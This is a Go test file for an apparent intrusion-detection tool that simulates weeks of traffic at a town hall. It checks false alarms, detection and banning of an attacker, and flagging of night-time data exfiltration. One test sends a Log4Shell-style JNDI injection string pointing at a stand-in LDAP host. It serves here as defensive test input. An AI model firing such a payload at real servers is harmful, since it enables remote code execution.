package main

import (
	"net/netip"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"abri.example/abri"
)

// "A simulated week of a town hall: at most one false attack, nobody stopped." Here it is four days, with a second Tuesday of
// the month, a PC that is set up, the council's meeting and a line that is down; ABRI_WEEK=14 are the whole two weeks of
// `make week`.
func TestAWeekAtTheTownHall(t *testing.T) {
	days := 4
	if n, err := strconv.Atoi(os.Getenv("ABRI_WEEK")); err == nil {
		days = n
	}
	town, err := newTown(monday)
	if err != nil {
		t.Fatal(err)
	}
	town.pass(days)
	var said strings.Builder
	if !town.tell(&said, days, 0) {
		t.Error(said.String())
	}
}

// The same town, and somebody in it who attacks: he is seen, banned, and his conversation cut, so that a week without an
// alarm says something.
func TestWhoAttacksInTheWeekIsStopped(t *testing.T) {
	town, err := newTown(monday)
	if err != nil {
		t.Fatal(err)
	}
	crook := netip.MustParseAddr("45.155.205.9")
	town.until(monday.Add(9 * time.Hour))
	town.fetch(crook, pages, "www.mairie.example", "/?q=${jndi:ldap://203.0.113.66/a}", firefox, speaks, document, 900)
	town.until(town.now.Add(time.Minute))
	if all := town.told(); len(all) != 1 || all[0].Kind != abri.Exploit || all[0].Outside != crook {
		t.Errorf("told: %+v", all)
	}
	if len(town.bans) != 1 || !strings.Contains(town.bans[0], crook.String()) || len(town.blocks) != 1 {
		t.Errorf("banned %q, cut %q", town.bans, town.blocks)
	}
	var said strings.Builder
	if town.tell(&said, 1, 0) {
		t.Error("a week in which somebody was stopped is told as one without")
	}
}

// After the week in which the box learns: a film, a paper for the printing house and a desk that moves into the cloud are no
// news; the first copy of everything to a new place is told once and goes on; and so are letters that move. As much at night
// to where nobody keeps files is a theft, and stopped.
func TestWhatIsBroughtAwayInTheSecondWeek(t *testing.T) {
	town, err := newTown(monday)
	if err != nil {
		t.Fatal(err)
	}
	for town.minute = range 20 * 1440 {
		town.until(monday.Add(time.Duration(town.minute) * time.Minute))
		town.copies()
		town.uploads()
		if town.every(60) {
			for _, who := range []netip.Addr{pc(7), pc(9), pc(12), letters} {
				town.visit(who, antivirus, "agent.antivirus.example", 900, 3500)
			}
		}
	}
	var told []string
	for _, a := range town.told() {
		told = append(told, a.First.Format("Mon ")+string(a.Kind)+" to "+a.Outside.String())
	}
	if want := []string{"Fri exfiltration to " + copier.String(), "Sat exfiltration to " + newHost.String()}; !slices.Equal(told, want) {
		t.Errorf("told %q, want %q", told, want)
	}
	if len(town.bans) > 0 || len(town.blocks) > 0 {
		t.Errorf("banned %q, cut %q", town.bans, town.blocks)
	}
	for range 60 {
		town.minute++
		town.until(monday.Add(time.Duration(town.minute) * time.Minute))
		town.visit(cellar, far(9601), "files.nobody.example", 170_000_000, 40_000)
	}
	if len(town.bans) == 0 || len(town.blocks) == 0 {
		t.Error("a theft at night is not stopped")
	}
}

// Each week is the same.
func TestTheWeekIsDeterministic(t *testing.T) {
	var all [2]*town
	for i := range all {
		town, err := newTown(monday)
		if err != nil {
			t.Fatal(err)
		}
		for town.minute = range 200 {
			town.drawn = 0
			town.until(monday.Add(time.Duration(9*60+town.minute) * time.Minute))
			town.desks()
			town.strangers()
			town.guests()
		}
		all[i] = town
	}
	if a, b := all[0], all[1]; a.packets == 0 || a.packets != b.packets || a.noise() != b.noise() || !a.now.Equal(b.now) {
		t.Errorf("%d packets and %d lone knocks, then %d and %d", a.packets, a.noise(), b.packets, b.noise())
	}
}
